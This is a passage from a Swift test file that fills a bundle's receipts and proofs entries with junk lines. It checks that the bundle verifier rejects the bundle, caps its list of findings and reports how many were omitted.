        // 3,000 lines that are not receipts: 1,000 findings kept, the rest counted.
        let f = Self.shared
        let junk =
            [UInt8](repeating: 0, count: 0) + Array(repeating: Array("{\"x\":1}\n".utf8), count: 3_000).flatMap { $0 }
        let p = try f.tampered { e in
            e[e.firstIndex { $0.name == BundleFormat.receipts }!].bytes = junk
            e[e.firstIndex { $0.name == BundleFormat.proofs }!].bytes = junk
        }
        var v = f.verifier()
        v.all = true
        let r = v.verify(path: p)
        #expect(r.verdict == .invalid)
        #expect(
            r.findings.count == BundleVerifier.maxFindings && r.summary.findingsOmitted >= 2_000,
            "\(r.findings.count) \(r.summary.findingsOmitted)")
        #expect(r.text(all: true).contains("more findings"))
    }

    // MARK: helpers

    func tampered(_ path: String, _ change: (inout [(name: String, bytes: [UInt8])]) throws -> Void) throws -> String {
        try Self.shared.tampered(from: path, change)
    }
}
